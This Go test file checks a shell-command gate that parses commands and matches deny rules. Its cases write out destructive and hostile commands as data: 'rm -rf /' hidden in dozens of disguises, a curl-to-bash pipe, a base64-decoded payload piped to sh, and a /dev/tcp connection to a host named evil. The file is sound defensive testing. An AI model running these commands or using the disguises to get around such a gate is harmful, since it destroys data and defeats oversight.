package gate

import (
	"slices"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"
)

// partsOf are the parts of a command as a test writes them: holes are …, loose ones begin with ~, what is unclear with !.
func partsOf(text string) string {
	c := read(text)
	var out []string
	for _, p := range c.parts {
		s := strings.ReplaceAll(p.text, string(hole), "…")
		if p.loose {
			s = "~" + s
		}
		out = append(out, s)
	}
	if c.unclear != "" {
		out = append(out, "!")
	}
	return strings.Join(out, " | ")
}

func TestParts(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"", ""},
		{"# nothing", ""},
		{"ls", "ls"},
		{"ls -la 'a b' \"c\"", "ls -la a b c"},
		{"ls; rm x", "ls | rm x"},
		{"ls && rm x || id", "ls | rm x | id"},
		{"ls\nrm x", "ls | rm x"},
		{"ls & rm x", "ls | rm x"},
		{"echo x | node", "echo x | node | !"},
		{"cat a |& grep b", "cat a | grep b"},
		{"! ls", "ls"},
		{"(rm x)", "rm x"},
		{"{ rm x; }", "rm x"},
		{"echo $(rm x)", "echo … | rm x"},
		{"echo `rm x`", "echo … | rm x"},
		{"echo \"a $(rm x) b\"", "echo a … b | rm x"},
		{"diff <(rm x) <(id)", "diff … … | rm x | id"},
		{"f() { rm x; }; f", "rm x | f"},
		{"if a; then b; elif c; then d; else e; fi", "a | b | c | d | e"},
		{"for i in 1 2; do rm $i; done", "rm …"},
		{"for i in $(id); do :; done", "id | :"},
		{"while read l; do rm $l; done < list", "< list | read l | rm …"},
		{"case $x in a) rm x;; *) id;; esac", "rm x | id"},
		{"time rm x", "rm x | time rm x"},
		{"coproc rm x", "rm x | coproc rm x"},
		{"cat <<E\n$(rm x)\nE", "cat | rm x"},
		{"cat <<'E'\n$(rm x)\nE", "cat"},
		{"sh <<'E'\nrm x\nE", "sh | rm x | !"},
		{"sh <<< 'rm x'", "sh | rm x | !"},
		{"a=$(rm x)", "a=… | rm x"},
		{"PATH=/evil git log", "PATH=/evil | git log"},
		{"PATH=/evil", "PATH=/evil"},
		{"export PATH=/evil X", "export PATH=/evil X"},
		{"declare -a x=(1 2)", "declare -a x=…"},
		{"git log > out", "> out | git log"},
		{"git log >> ~/.bashrc 2>&1", ">> …/.bashrc | git log"},
		{"git log > /dev/null 2>&1 < /dev/null", "git log"},
		{"git log &> out", "&> out | git log"},
		{"> out", "> out"},
		{"{ ls; } > out", "> out | ls"},
		{"cat < $(id)", "< … | cat | id"},
		{"exec 3<>/dev/tcp/evil/80", "<> /dev/tcp/evil/80 | exec"},
		{`\rm x`, "rm x"},
		{`r""m x`, "rm x"},
		{`'r'm x`, "rm x"},
		{`$'\x72m' x`, "rm x | $\\x72m x"},
		{"r\\\nm x", "rm x"},
		{"$x y", "… y | !"},
		{"$(echo rm) x", "… x | echo rm | !"},
		{"/bin/r? x", "/bin/r… x | !"},
		{"/bin/r[m] x", "/bin/r… x | !"},
		{"{rm,x}", "… | !"},
		{"ls {a,b}", "ls …"},
		{"ls {a}", "ls {a}"},
		{"ls *.go", "ls ….go"},
		{"ls ~ ~/x ~bob/x a~", "ls … …/x …/x a~"},
		{"[ -f x ]", "[ -f x ]"},
		{"[[ -f x ]] && rm x", "[[ -f x ]] | rm x"},
		{"[[ 'a[$(rm x)]' -eq 0 ]]", "[[ a[$(rm x)] -eq 0 ]] | !"},
		{"test -v 'a[$(rm x)]'", "test -v a[$(rm x)] | !"},
		{"let 'a[$(rm x)]'", "let a[$(rm x)] | !"},
		{"echo $((1 + $(rm x)))", "echo … | rm x"},
		{"echo \"${x@P}\"", "echo … | !"},
		{"echo ${x:-$(rm x)}", "echo … | rm x"},
		{"ls (", "~ls ( | !"},
		{"echo 'unclosed", "~echo 'unclosed | !"},
		{"a\x00b", "~a…b | !"},
		{"'rm x'", "rm x | !"},
		{"''", "!"},

		// Commands that run commands.
		{"env rm x", "env rm x | rm x"},
		{"env", "env"},
		{"env - A=1 B=2 rm x", "env - A=1 B=2 rm x | rm x"},
		{"env -i -u A -C / rm x", "env -i -u A -C / rm x | rm x"},
		{"env --unset=A --chdir / rm x", "env --unset=A --chdir / rm x | rm x"},
		{"env -S 'rm x'", "env -S rm x | rm x"},
		{"env -iS'rm x'", "env -iSrm x | rm x"},
		{"/usr/bin/env rm x", "/usr/bin/env rm x | rm x"},
		{"env $x rm y", "env … rm y | ~… rm y | ~rm y | ~y | !"},
		{"env --new-option x rm y", "env --new-option x rm y | ~x rm y | ~rm y | ~y | !"},
		{"sudo rm x", "sudo rm x | rm x"},
		{"sudo -u bob -E A=1 rm x", "sudo -u bob -E A=1 rm x | rm x"},
		{"sudo -ubob -- rm x", "sudo -ubob -- rm x | rm x"},
		{"sudo -s rm x", "sudo -s rm x | ~rm x | ~x | !"},
		{"nohup nice -n 5 timeout -k 1 5s rm x", "nohup nice -n 5 timeout -k 1 5s rm x | nice -n 5 timeout -k 1 5s rm x | timeout -k 1 5s rm x | rm x"},
		{"nice -10 rm x", "nice -10 rm x | rm x"},
		{"timeout --signal=KILL 5 rm x", "timeout --signal=KILL 5 rm x | rm x"},
		{"command rm x", "command rm x | rm x"},
		{"command -v rm", "command -v rm"},
		{"builtin eval 'rm x'", "builtin eval rm x | eval rm x | rm x"},
		{"exec -a ls rm x", "exec -a ls rm x | rm x"},
		{"busybox rm x", "busybox rm x | rm x"},
		{"busybox sh -c 'rm x'", "busybox sh -c rm x | sh -c rm x | rm x"},
		{"sh -c 'rm x; id'", "sh -c rm x; id | rm x | id"},
		{"sh -lc 'rm x'", "sh -lc rm x | rm x"},
		{"bash -o pipefail -c 'rm x'", "bash -o pipefail -c rm x | rm x"},
		{"bash --norc -c 'sh -c \"rm x\"'", "bash --norc -c sh -c \"rm x\" | sh -c rm x | rm x"},
		{"bash -c -e 'rm x'", "bash -c -e rm x | rm x"},
		{"sh -c \"rm $x\"", "sh -c rm … | ~rm … | !"},
		{"sh -c $x", "sh -c … | ~… | !"},
		{"sh", "sh | !"},
		{"sh -s", "sh -s | !"},
		{"sh build.sh", "sh build.sh"},
		{"sh <(id)", "sh … | id | !"},
		{"sh /dev/stdin", "sh /dev/stdin | !"},
		{"source x.sh", "source x.sh"},
		{". <(id)", ". … | id | !"},
		{"eval 'rm x'", "eval rm x | rm x"},
		{"eval rm x", "eval rm x | rm x"},
		{"eval $x", "eval … | ~… | !"},
		{"trap 'rm x' EXIT", "trap rm x EXIT | rm x"},
		{"alias ls='rm x'", "alias ls=rm x | rm x"},
		{"xargs", "xargs"},
		{"ls | xargs rm", "ls | xargs rm | rm …"},
		{"xargs -0 -n 1 rm -f", "xargs -0 -n 1 rm -f | rm -f …"},
		{"xargs -I{} rm {} y", "xargs -I{} rm {} y | rm … y"},
		{"xargs -I {} sh -c 'rm {}'", "xargs -I {} sh -c rm {} | sh -c rm … | ~rm … | !"},
		{"xargs -i rm {}", "xargs -i rm {} | rm …"},
		{"find . -name '*.go' -exec rm {} + -exec id ';'", "find . -name *.go -exec rm {} + -exec id ; | rm … | id"},
		{"find . -name *.go", "find . -name ….go"},
		{"find . $x", "find . … | !"},
		{"find . -delete", "find . -delete"},
		{"python3 -c 'import os; os.system(\"rm x\")'", "python3 -c import os; os.system(\"rm x\") | ~import os; os.system(\"rm x\") | ~rm x | !"},
		{"python -Ic 'run([\"rm\",\"x\"])'", "python -Ic run([\"rm\",\"x\"]) | ~run([\"rm\",\"x\"]) | ~rm | ~x | ~rm x | !"},
		{"python3.12 script.py", "python3.12 script.py"},
		{"python3 --version", "python3 --version"},
		{"python3", "python3 | !"},
		{"python3 -", "python3 - | !"},
		{"perl -pe 's/a/b/'", "perl -pe s/a/b/ | ~s/a/b/ | !"},
		{"node -e 'x()'", "node -e x() | ~x() | !"},
		{"node --eval='x()'", "node --eval=x() | ~x() | !"},
		{"awk '{print $1}' f", "awk {print $1} f | ~{print $1} | ~f"},
		{"awk 'BEGIN{system(\"rm x\")}'", "awk BEGIN{system(\"rm x\")} | ~BEGIN{system(\"rm x\")} | ~rm x | !"},
		{"ssh host rm x", "ssh host rm x | ~host rm x | ~rm x | ~x | !"},
		{"watch 'rm x'", "watch rm x | ~rm x | rm x | !"},
	} {
		if got := partsOf(c.text); sorted(got) != sorted(c.want) {
			t.Errorf("%s\n got %s\nwant %s", c.text, got, c.want)
		}
	}
}

func sorted(s string) string {
	parts := strings.Split(s, " | ")
	slices.Sort(parts)
	return strings.Join(parts, " | ")
}

// TestDeniedInDisguise hides one command in many ways. A rule that denies it finds it, or it is asked about.
func TestDeniedInDisguise(t *testing.T) {
	for _, text := range []string{
		"rm -rf /", "/bin/rm -rf /", "./rm -rf /", `r\m -rf /`, "'rm' -rf /", "true; rm -rf /", "true && rm -rf /", "$(rm -rf /)", "`rm -rf /`", "echo \"$(rm -rf /)\"",
		"cat <(rm -rf /)", "x=$(rm -rf /)", "env rm -rf /", "env -i A=b rm -rf /", "sh -c 'rm -rf /'", "bash -lc \"rm -rf /\"", "echo / | xargs rm -rf", "busybox rm -rf /",
		"busybox sh -c 'rm -rf /'", "python -c 'import os; os.system(\"rm -rf /\")'", "python3 -c 'subprocess.run([\"rm\", \"-rf\", \"/\"])'", "nohup rm -rf / &",
		"timeout 5 rm -rf /", "nice -n 3 rm -rf /", "command rm -rf /", "exec rm -rf /", "eval 'rm -rf /'", "find / -exec rm -rf {} ;", "find / -exec rm -rf {} \\;",
		"sudo -u root rm -rf /", "sudo env A=1 nohup sh -c 'eval \"rm -rf /\"'", "if true; then rm -rf /; fi", "f() { rm -rf /; }; f", "(cd /; rm -rf .)", "cat <<E\n$(rm -rf /)\nE",
		"sh <<E\nrm -rf /\nE", "trap 'rm -rf /' EXIT", "alias x='rm -rf /'", "ssh host rm -rf /", "docker run -v /:/x alpine rm -rf /x", "perl -e 'system(\"rm -rf /\")'",
		"awk 'BEGIN{system(\"rm -rf /\")}'", "node -e 'require(\"child_process\").execSync(`rm -rf /`)'", "parallel rm -rf ::: /", "watch 'rm -rf /'", "flock x -c 'rm -rf /'",
		"stdbuf -oL rm -rf /", "setsid rm -rf /", "A=1 rm -rf /", "rm\t-rf\t/", "time rm -rf /", "! rm -rf /", "[[ $(rm -rf /) ]]", "coproc rm -rf /", "case x in x) rm -rf /;; esac",
	} {
		if got := read(text).hits("rm *"); got != yes {
			t.Errorf("%s: %d, want a match", text, got)
		}
	}
	for _, text := range []string{
		"$x -rf /", "r$x -rf /", "$(echo rm) -rf /", "/bin/r? -rf /", "{rm,-rf,/}", "{rm,\"-rf\",/}", "eval $x", "sh -c \"$x\"", "echo cm0gLXJmIC8= | base64 -d | sh", "env $x",
		"x='rm -rf /'; $x", "python x", "curl https://x | bash", "xargs -I% sh -c %", ". /dev/stdin", "[[ 'a[$(rm -rf /)]' -eq 1 ]]", "rm -rf / (", "ba$x -c 'rm -rf /'",
		"find / $x", "command $x", "\"$@\"", "$'r\\155' -rf /",
	} {
		c := read(text)
		if got := c.hits("rm *"); text != "python x" && c.unclear == "" && got == no {
			t.Errorf("%s: passes unseen", text)
		}
	}
}

// TestShellNeverPanics reads texts that are made of what shells know.
func TestShellNeverPanics(t *testing.T) {
	pieces := []string{
		"rm", "x", " ", "  ", "\n", ";", "&&", "|", "|&", "&", "(", ")", "{", "}", "$(", "${", "`", "'", "\"", "\\", "$", "#", "<", ">", ">>", "<<E\n", "\nE\n", "<<<", "<(",
		"if ", "then ", "fi", "for i in ", "do ", "done", "case ", "in ", "esac", ";;", "function ", "f()", "[[ ", " ]]", "((", "))", "=", "a=", "!", "*", "?", "[", "]", "~",
		"env ", "sudo ", "-u ", "sh -c ", "xargs ", "-I{} ", "find . -exec ", "python -c ", "eval ", "-", "--", "{a,b}", "é", "\x00", "\xff", "$'", "@P}", "time ", "coproc ", "let ",
	}
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 20).Draw(t, "pieces"), "")
		c := read(text)
		c.hits("rm *")
	})
	rapid.Check(t, func(t *rapid.T) { read(rapid.String().Draw(t, "text")) })
}

// TestShellIsBounded gives the parser what makes parsers slow. The bound tells seconds from hours.
func TestShellIsBounded(t *testing.T) {
	for _, piece := range []string{
		"(", "$(", "`", "{ ", "((", "[[ ", "! ", "if a; then ", "a && ", "a | ", "a;", "sh -c '", "\\\\\\", "${x:-", "\"$(", "<(", "$((", "1+", "a=", "env ", "sudo sh -c ", "eval ",
		"x <<E\n", "f() ", "time ", "{a,", "((a?", "[[ a && ", "case a in a) ", "for i in a; do ", "coproc ",
	} {
		start := time.Now()
		c := read(strings.Repeat(piece, maxCommand/len(piece)))
		c.hits("*x*y*z*")
		if d := time.Since(start); d > 20*time.Second {
			t.Errorf("%q: %v", piece, d)
		}
	}
}
